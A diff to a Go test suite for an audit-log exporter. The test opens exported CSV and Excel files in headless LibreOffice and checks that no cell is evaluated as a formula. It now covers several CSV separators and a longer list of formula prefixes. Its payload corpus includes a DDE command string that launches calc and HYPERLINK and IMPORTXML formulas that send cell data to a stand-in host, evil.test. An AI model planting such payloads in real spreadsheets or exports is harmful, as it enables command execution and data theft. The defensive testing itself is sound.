@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -72,38 +73,51 @@ func TestLongNoFormulas(t *testing.T) {
 		}
 		entries = append(entries, e)
 	}
-	for _, format := range []export.Format{export.CSV, export.Excel} {
-		t.Run(string(format), func(t *testing.T) {
-			t.Parallel()
+	type opened struct {
+		format    export.Format
+		separator rune
+		as        string // the separators that LibreOffice is told, by their numbers
+	}
+	files := []opened{{export.Excel, 0, ""}}
+	for _, separator := range ",;\t" {
+		for _, as := range []string{"44", "59", "9", "9/44/59"} {
+			files = append(files, opened{export.CSV, separator, as})
+		}
+	}
+	for _, file := range files {
+		format := file.format
+		t.Run(fmt.Sprintf("%s %q as %s", format, file.separator, file.as), func(t *testing.T) {
 			folder := t.TempDir()
 			name := filepath.Join(folder, "audit."+string(format))
-			file, err := os.Create(name)
+			out, err := os.Create(name)
 			require.NoError(t, err)
-			_, err = format.Write(file, all(entries...), export.Report{})
+			_, err = format.Write(out, all(entries...), export.Report{Separator: file.separator})
 			require.NoError(t, err)
-			require.NoError(t, file.Close())
+			require.NoError(t, out.Close())
 			args := []string{"-env:UserInstallation=file://" + filepath.Join(folder, "profile"), "--headless", "--convert-to", "fods", "--outdir", folder}
 			if format == export.CSV {
-				// Comma, quote and UTF-8, as the dialog for text files offers it;
-				// formulas are calculated.
-				args = append(args, "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true")
+				// Quote and UTF-8, as the dialog for text files offers it; formulas
+				// are calculated.
+				args = append(args, "--infilter=Text - txt - csv (StarCalc):"+file.as+",34,76,1,,0,false,true,true")
 			}
-			out, err := exec.Command(soffice, append(args, name)...).CombinedOutput()
-			require.NoError(t, err, "%s", out)
+			said, err := exec.Command(soffice, append(args, name)...).CombinedOutput()
+			require.NoError(t, err, "%s", said)
 			sheet, err := os.ReadFile(filepath.Join(folder, "audit.fods"))
 			require.NoError(t, err)
 			at := bytes.Index(sheet, []byte("table:formula"))
 			if at >= 0 {
 				assert.Fail(t, "a formula", "%s", sheet[at:min(at+200, len(sheet))])
 			}
-			assert.Greater(t, bytes.Count(sheet, []byte("<table:table-row")), len(entries), "it opened the whole file")
+			if format == export.Excel || strings.Contains(file.as, strconv.Itoa(int(file.separator))) {
+				assert.Greater(t, bytes.Count(sheet, []byte("<table:table-row")), len(entries), "it opened the whole file")
+			}
 		})
 	}
 }
 
 // formulas returns n texts that some spreadsheet might calculate.
 func formulas(n int) []string {
-	begins := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "'", `"`, ";", ",", "(", "1;"}
+	begins := []string{"", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2003", "\u3000", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "'", `"`, ";", ",", "(", "1;", "x;", "x,", "x; ", `x;"`, `x;""`, `x,"`, `x";`, `"x;`, "x;\u00a0", "x;y;"}
 	signs := []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=-", "+=", "-+", "@=", "{=", "﹦", "⁼", "−", "%", "|"}
 	bodies := []string{
 		"1+1", "A1", "SUM(A1:A9)", "2*3", "-2", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")", "IMPORTXML(\"http://evil.test\",\"//a\")",
